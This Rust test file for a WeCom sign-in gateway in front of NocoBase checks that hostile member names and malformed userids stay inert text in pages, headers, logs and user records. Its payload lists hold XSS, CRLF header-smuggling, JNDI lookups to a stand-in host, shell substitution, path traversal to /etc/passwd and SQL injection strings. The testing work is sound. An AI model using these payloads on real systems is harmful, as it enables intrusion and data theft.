//! R24: what WeCom sends is data. Names are text in pages, logs, headers and NocoBase; an invalid userid signs no one in.

use http::Method;
use wecom_sim::{Consent, Fault, FaultKind, Settings};

use crate::support::{CORP, Stage};

/// Names that would be interpreted wherever they are not treated as text.
const NAMES: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "</title><base href=//evil.test>",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "${jndi:ldap://evil.test/a}",
    "x\r\nX-WeCom-User: root\r\nSet-Cookie: wecom_gate=planted",
    "x\r\n\r\n<html>split",
    "http://127.0.0.1:1/steal",
    "file:///etc/passwd",
    "exec:id; $(id) `id` | id",
    "../../../../etc/passwd",
    "%0d%0aX-Injected:%20yes",
    "\",\"roles\":[\"root\"],\"x\":\"",
    "' OR 1=1; DROP TABLE users; --",
    "\u{202e}gnp.exe\u{2066}",
    "\u{0}\u{1b}[2J\u{7f}",
    "\u{2028}\u{feff}\u{200b}",
];

#[tokio::test(flavor = "multi_thread")]
async fn r24_a_name_is_text_everywhere() {
    let settings = Settings { consent: Consent::Allow, ..Settings::default() };
    let mut stage = Stage::with(settings, |c| {
        c.set("nocobase.auto_create_user", true).set("nocobase.identity_headers", true);
    })
    .await;
    let company = stage.wecom().members(CORP);
    let template = company.iter().find(|m| m.userid == "lisi").unwrap().clone();
    for (i, name) in NAMES.iter().enumerate() {
        let userid = format!("Hostile{i}");
        let mut member = template.clone();
        member.userid = userid.clone();
        member.name = (*name).to_owned();
        member.mobile = format!("139{i:08}");
        member.email = String::new();
        member.biz_mail = String::new();
        stage.wecom().set_member(CORP, member).unwrap();
        let mut browser = stage.phone(&userid);
        let page = browser.open("/admin").await;
        assert_eq!(page.status, 200, "{name:?}: {}", page.body);
        // The page, its header section and its cookies.
        let whole = format!("{:?}{}", page.headers, page.body);
        for never in ["<script>alert", "<img", "<base", "X-Injected", "planted", "evil.test", "split"] {
            assert!(!whole.contains(never), "{name:?}: {never} in {whole}");
        }
        // What NocoBase gets: one value per header, in ASCII, and nothing more than for other members.
        assert_eq!(browser.api(Method::GET, "/api/orders:list").await.status, 200, "{name:?}");
        let seen = stage.nocobase.last("/api/orders:list").unwrap();
        assert_eq!(seen.headers.get_all("x-wecom-user").iter().collect::<Vec<_>>(), [userid.as_str()]);
        assert!(seen.headers.get("x-injected").is_none(), "{name:?}: {seen:?}");
        if let Some(sent) = seen.header("x-wecom-name") {
            assert!(sent.bytes().all(|b| (0x20..0x7f).contains(&b)), "{name:?}: {sent}");
        }
        // What the member gets: JSON with exactly the name.
        let me = browser.clone().visit("/wecom-gate/me").await;
        assert_eq!(me.header("content-type"), Some("application/json; charset=utf-8"), "{name:?}");
        assert_eq!(me.header("x-content-type-options"), Some("nosniff"));
        let shown = me.json()["name"].as_str().unwrap().to_owned();
        assert_eq!(me.json()["userid"], userid.as_str());
        // The user in NocoBase: a nickname, and no other field.
        let data = stage.nocobase.data();
        let user =
            data.users.iter().find(|u| u["phone"].as_str().is_some_and(|p| p.ends_with(&format!("{i:08}"))));
        let user = user.unwrap_or_else(|| panic!("{name:?}: {:?}", data.users));
        assert!(
            name.contains(user["nickname"].as_str().unwrap()) || shown == user["nickname"],
            "{name:?}: {user}"
        );
        assert!(!user.to_string().contains("\"root\""), "{name:?}: {user}");
    }
    // Lines of the log are lines, and JSON; a name is the value of one field.
    let written = stage.gate.everything_written().await;
    let mut named = 0;
    for line in written.lines() {
        let mut line: serde_json::Value =
            serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line:?}"));
        named += usize::from(line.as_object_mut().unwrap().remove("name").is_some());
        let text = line.to_string();
        assert!(
            !text.contains("alert(1)") && !text.contains("jndi"),
            "a name is elsewhere in the log: {text}"
        );
    }
    assert!(named >= NAMES.len(), "{named} lines name a member");
    assert!(!written.contains("panicked"));
}

/// Only the syntax that WeCom documents for a userid is accepted: it goes into queries, headers and logs.
#[tokio::test(flavor = "multi_thread")]
async fn r24_invalid_userids_are_refused() {
    let mut stage = Stage::start(|c| {
        c.set("nocobase.auto_create_user", true).set("nocobase.identity_headers", true);
    })
    .await;
    for userid in [
        "",
        " ",
        "../../gettoken",
        "zhangsan&access_token=x",
        "zhangsan#",
        "zhangsan\r\nX-WeCom-User: root",
        "zhangsan\u{0}",
        "zhang san",
        "<b>",
        "{\"$ne\":1}",
        "*",
        "%7a",
        "张三",
        "ＺＨＡＮＧＳＡＮ",
        "zhangsan\u{200b}",
        "@zhangsan",
        &"x".repeat(65),
    ] {
        let body = serde_json::json!({ "errcode": 0, "errmsg": "ok", "userid": userid }).to_string();
        stage.wecom().add_fault(Fault::new("/cgi-bin/auth/getuserinfo", FaultKind::Body(body)));
        let mut browser = stage.phone("zhangsan");
        let callback = browser.up_to_callback("/admin").await;
        let response = browser.visit(&callback).await;
        assert!(!response.sets("wecom_gate"), "{userid:?}");
        assert!(
            response.status >= 400 || response.location().starts_with("http"),
            "{userid:?}: {}",
            response.status
        );
        stage.wecom().clear_faults();
    }
    assert!(stage.nocobase.data().tokens.is_empty());
    assert_eq!(stage.nocobase.data().users.len(), 1, "no user is created");
    let written = stage.gate.everything_written().await;
    assert!(written.contains("\"sign_in\""), "{written}");
    for line in written.lines() {
        assert!(serde_json::from_str::<serde_json::Value>(line).is_ok(), "{line:?}");
    }
}
